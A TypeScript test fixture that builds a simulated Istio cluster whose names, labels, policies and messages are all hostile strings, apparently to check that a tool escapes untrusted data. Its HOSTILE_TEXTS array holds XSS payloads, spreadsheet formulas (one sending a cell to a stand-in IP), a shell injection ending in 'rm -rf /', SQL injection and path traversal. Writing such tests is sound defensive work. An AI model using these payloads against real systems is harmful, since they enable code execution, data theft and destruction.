import { ISTIO_SYSTEM } from "../build/chart.ts";
import { declareCrds } from "../build/crds.ts";
import { declareGatewayClasses, declareWaypoint } from "../build/gateways.ts";
import { declareControlPlane } from "../build/istiod.ts";
import { declareBareNamespace, declareNamespace, type NamespacePlan } from "../build/namespace.ts";
import { declareNodeAgents } from "../build/node-agents.ts";
import { type Cloud, declareNodes, nodesOf, type Pool } from "../build/nodes.ts";
import { declare, inventoryOf, site } from "../build/site.ts";
import { clusterOf, type DemoCluster } from "../cluster.ts";
import type { Labels } from "../json.ts";
import {
  authorizationPolicy,
  envoyFilter,
  http,
  INJECTED,
  networkPolicy,
  plan,
  requestAuthentication,
  sidecar,
  virtualService,
  wasmPlugin,
  workloadGroup,
} from "./company.ts";
import { systemWorkloads } from "./system.ts";

const VERSION = "1.30.5";

const CLOUD: Cloud = { provider: "kind", cluster: "hostile", zones: ["local"], kubelet: "v1.34.0" };
const POOLS: readonly Pool[] = [{ name: "general", count: 2, cpu: 8, memoryGi: 32 }];

/** Text that does harm where it is not treated as text: pages, spreadsheets, terminals, shells, YAML, paths, JavaScript. */
export const HOSTILE_TEXTS: readonly string[] = [
  "<script>globalThis.hostile=1</script>",
  '"><img src=x onerror="globalThis.hostile=1">',
  "javascript:globalThis.hostile=1",
  "</title><svg onload=globalThis.hostile=1>",
  "{{constructor.constructor('globalThis.hostile=1')()}}",
  '=HYPERLINK("http://203.0.113.66/?"&A1,"open")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\u001b]0;owned\u0007\u001b[2J\u001b[31mred\u001b[0m",
  "carriage\rreturn\nline\u2028separator\u0000null\u007fdelete",
  "\u202egnp.exe\u2066 \u200bzero\u00adwidth\ufeff",
  "$(touch /tmp/hostile); `touch /tmp/hostile` && rm -rf / #",
  "'; DROP TABLE snapshots; --",
  "../../../../etc/passwd",
  "{a: &a [*a], b: !!js/function 'x'}",
  "[link](javascript:globalThis.hostile=1) ![x](http://203.0.113.66/x.png)",
  "%s%n%x %2e%2e%2f \\u003cscript\\u003e",
  "\ud800 lone surrogate \ud83d\ude80 \u0301\u0301\u0301",
];

/** Names that the API grammar allows and that JavaScript treats specially. */
export const HOSTILE_NAMES: readonly string[] = [
  "constructor",
  "prototype",
  "tostring",
  "hasownproperty",
  "null",
  "undefined",
  "nan",
  "1e400",
  "0x1f",
  "then",
];

/** Longer than any label may be: the server is not a real one. */
const LONG = "l".repeat(65_536);

/**
 * A cluster, or something that answers like one, in which every name, label, annotation and message is a script, a
 * formula or a control sequence. Names that no API server would accept are among them, since nothing proves that
 * what answers is an API server.
 */
export function hostile(now: Date): DemoCluster {
  const ground = site("hostile", now, nodesOf(CLOUD, POOLS));
  declareNodes(ground, CLOUD, POOLS);
  declareCrds(ground, [], { version: "1.5.1", channel: "standard" });
  systemWorkloads(ground, "kind");
  declareBareNamespace(ground, ISTIO_SYSTEM);
  declareControlPlane(ground, {
    version: VERSION,
    revision: "default",
    ambient: true,
    isDefault: true,
    mesh: MESH,
  });
  declareNodeAgents(ground, { version: VERSION, revision: "default" });
  declareGatewayClasses(ground, false);

  for (const text of HOSTILE_TEXTS) declareNamespace(ground, team(text, text));
  for (const [index, name] of HOSTILE_NAMES.entries()) {
    declareNamespace(ground, team(name, HOSTILE_TEXTS[index % HOSTILE_TEXTS.length] ?? name));
  }
  declareWaypoint(ground, {
    namespace: "constructor",
    name: "tostring",
    version: VERSION,
    ready: false,
  });
  declare(ground, {
    resource: "services",
    namespace: "constructor",
    name: "conditions",
    labels: labelsOf(LONG),
    body: {
      spec: {
        ports: [{ name: LONG, port: 80, protocol: "TCP" }],
        selector: labelsOf("<b>"),
        type: "ClusterIP",
        clusterIP: "<ip>",
      },
      status: {
        conditions: HOSTILE_TEXTS.map((text) => ({
          type: text,
          status: "False",
          reason: text,
          message: text + LONG,
        })),
      },
    },
  });
  return clusterOf("hostile", CLOUD.kubelet, inventoryOf(ground));
}

const MESH = `extensionProviders:
- name: "<script>globalThis.hostile=1</script>"
  envoyExtAuthzHttp: {service: "=1+1", port: 80}
defaultConfig: {proxyMetadata: {"__proto__": "x", "constructor": "y"}}`;

function labelsOf(text: string): Labels {
  return {
    app: text,
    ["__proto__"]: text,
    constructor: text,
    [text]: text,
    "app.kubernetes.io/name": text,
  };
}

function team(name: string, text: string): NamespacePlan {
  const app = http("web", 1, {
    image: `registry.example/${text}:${text}`,
    labels: labelsOf(text),
    annotations: { note: text, "sidecar.istio.io/userVolume": text },
    env: { TEXT: text },
    args: [text],
  });
  const selector = { matchLabels: { app: "web" } };
  const more = { annotations: { note: text }, labels: labelsOf(text) };
  return {
    ...plan(
      name,
      sidecar(VERSION),
      { ...labelsOf(text), ...INJECTED },
      [{ ...app, labels: { ...app.labels, app: "web" } }],
      [
        virtualService(
          `vs ${text}`,
          {
            hosts: ["web", text],
            http: [
              {
                match: [{ headers: { [text]: { exact: text } } }],
                fault: { abort: { httpStatus: 500, percentage: { value: 1 } } },
                route: [{ destination: { host: "web", subset: text } }],
              },
            ],
          },
          more,
        ),
        authorizationPolicy(
          `deny ${text}`,
          {
            action: "DENY",
            selector,
            rules: [
              {
                to: [{ operation: { paths: [text], methods: [text] } }],
                when: [{ key: text, values: [text] }],
              },
            ],
          },
          more,
        ),
        authorizationPolicy(
          `custom ${text}`,
          { action: "CUSTOM", provider: { name: text }, selector, rules: [{}] },
          more,
        ),
        requestAuthentication(
          `jwt ${text}`,
          { selector, jwtRules: [{ issuer: text, jwksUri: text }] },
          more,
        ),
        envoyFilter(
          `filter ${text}`,
          {
            workloadSelector: { labels: { app: "web" } },
            configPatches: [
              {
                applyTo: text,
                match: { context: text },
                patch: { operation: text, value: { name: text, "@type": text } },
              },
            ],
          },
          more,
        ),
        wasmPlugin(`wasm ${text}`, { selector, phase: "AUTHN", url: text }, more),
        networkPolicy(
          `policy ${text}`,
          {
            podSelector: {},
            policyTypes: ["Ingress"],
            ingress: [
              {
                from: [{ namespaceSelector: { matchLabels: labelsOf(text) } }],
                ports: [{ protocol: "TCP", port: text }],
              },
            ],
          },
          more,
        ),
        workloadGroup(
          `vm ${text}`,
          { metadata: { labels: labelsOf(text) }, template: { serviceAccount: text } },
          more,
        ),
      ],
    ),
    annotations: { note: text, [text]: text },
  };
}
